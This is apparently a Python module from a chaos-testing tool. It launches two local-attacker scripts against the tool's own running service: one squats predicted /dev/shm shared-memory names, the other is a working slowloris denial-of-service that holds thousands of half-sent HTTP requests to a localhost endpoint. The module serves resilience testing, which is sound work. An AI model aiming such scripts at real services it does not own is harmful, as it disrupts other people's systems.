"""Attacks of another local user that `earl chaos` launches against a live run.

Each attack is a small stdlib-only script run by the system's `python3` as uid 65534 (nobody)
when this process is root, else as this user: it acts as a process of another user on the same
machine would, from outside the run.

- `plant_shm_names`: watches /dev/shm and pre-creates the names the run's next shared-memory
  segments could take (the next counter values, and random names of the same shape), then
  removes what it planted.
- `slowloris`: opens as many half-sent HTTP requests to an endpoint as the target process may
  open files (plus a margin), holds them, and counts how many the server closed; `http_status`
  is the request a client sends meanwhile.

Not here: when to launch them, or what counts as recovered (`earl.commands.chaos`).
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import textwrap
from dataclasses import dataclass

__all__ = ["NOBODY", "PYTHON", "Attack", "http_status", "open_files_limit", "plant_shm_names", "slowloris"]

NOBODY = 65534
# a system interpreter: this venv's may sit under a directory only root can read
PYTHON = shutil.which("python3", path="/usr/bin:/bin:/usr/local/bin")

_PLANT = textwrap.dedent(r"""
    import os, re, sys, time, secrets
    pat = re.compile(r"^(earl-[0-9a-z]+-\d+-)(\w+)$")
    end = time.monotonic() + float(sys.argv[1])
    seen, mine = set(), []
    print("ready", flush=True)
    while time.monotonic() < end:
        for name in os.listdir("/dev/shm"):
            m = pat.match(name)
            if not m or name in seen:
                continue
            seen.add(name)
            guesses = [m.group(1) + secrets.token_hex(8) for _ in range(4)]
            if m.group(2).isdigit():
                guesses += [m.group(1) + str(int(m.group(2)) + k) for k in range(1, 40)]
            for g in guesses:
                seen.add(g)
                try:
                    os.close(os.open("/dev/shm/" + g, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644))
                    mine.append(g)
                except OSError:
                    pass
        time.sleep(0.002)
    for g in mine:
        try:
            os.unlink("/dev/shm/" + g)
        except OSError:
            pass
    print('{"planted": %d}' % len(mine), flush=True)
""")

_SLOWLORIS = textwrap.dedent(r"""
    import json, os, resource, select, socket, sys, time
    port, count, hold = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socks, refused = [], 0
    for _ in range(count):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            s.close()
            continue
        socks.append(s)
    time.sleep(0.2)
    for s in socks:
        try:
            s.send(b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\n")
        except OSError:
            pass
    print("ready", flush=True)
    by_fd = {s.fileno(): s for s in socks}
    poller = select.poll()
    for fd in by_fd:
        poller.register(fd, select.POLLIN)
    closed = set()
    end = time.monotonic() + hold
    while time.monotonic() < end and len(closed) < len(socks):
        for fd, _ in poller.poll(100):
            try:
                gone = not by_fd[fd].recv(4096)
            except OSError:
                gone = True
            if gone:
                closed.add(fd)
                poller.unregister(fd)
    print(json.dumps({"opened": len(socks), "refused": refused, "closed_by_server": len(closed)}),
          flush=True)
""")


@dataclass
class Attack:
    """A running attack script."""

    proc: subprocess.Popen[str]
    as_user: int

    def wait_ready(self) -> None:
        """Block until the script says it is under way (slowloris: holds what it opened)."""
        assert self.proc.stdout is not None
        self.proc.stdout.readline()

    def result(self, timeout: float) -> dict[str, int]:
        """The script's JSON summary, once it has finished."""
        out, _ = self.proc.communicate(timeout=timeout)
        lines = out.strip().splitlines()
        return json.loads(lines[-1]) if lines else {}  # type: ignore[no-any-return]


def _launch(script: str, *args: str) -> Attack:
    root = os.geteuid() == 0
    proc = subprocess.Popen([PYTHON or "python3", "-c", script, *args], stdout=subprocess.PIPE, text=True,
                            user=NOBODY if root else None, group=NOBODY if root else None,
                            env={"PATH": "/usr/bin:/bin"}, cwd="/")
    return Attack(proc, NOBODY if root else os.geteuid())


def plant_shm_names(seconds: float) -> Attack:
    """Pre-create the run's next shm segment names for `seconds` (see the module doc)."""
    return _launch(_PLANT, str(seconds))


def open_files_limit(pid: int) -> int:
    """The soft RLIMIT_NOFILE of process `pid`."""
    with open(f"/proc/{pid}/limits") as f:
        for line in f:
            if line.startswith("Max open files"):
                return int(line.split()[3])
    raise ValueError(f"no open-files limit in /proc/{pid}/limits")


def slowloris(port: int, connections: int, hold_s: float) -> list[Attack]:
    """Half-sent requests to 127.0.0.1:`port`, `connections` in all over processes of at most
    10,000 each (each raises its own open-file cap to its hard limit), held `hold_s` seconds."""
    per = 10_000
    return [_launch(_SLOWLORIS, str(port), str(min(per, connections - i)), str(hold_s))
            for i in range(0, connections, per)]


async def http_status(port: int, timeout: float) -> int:
    """The status code of a bare POST to 127.0.0.1:`port` (0 when nothing came back)."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port),
                                                timeout)
        writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: a\r\n"
                     b"Content-Length: 2\r\nConnection: close\r\n\r\n{}")
        line = await asyncio.wait_for(reader.readline(), timeout)
        writer.close()
        return int(line.split()[1])
    except (OSError, TimeoutError, ValueError, IndexError):
        return 0
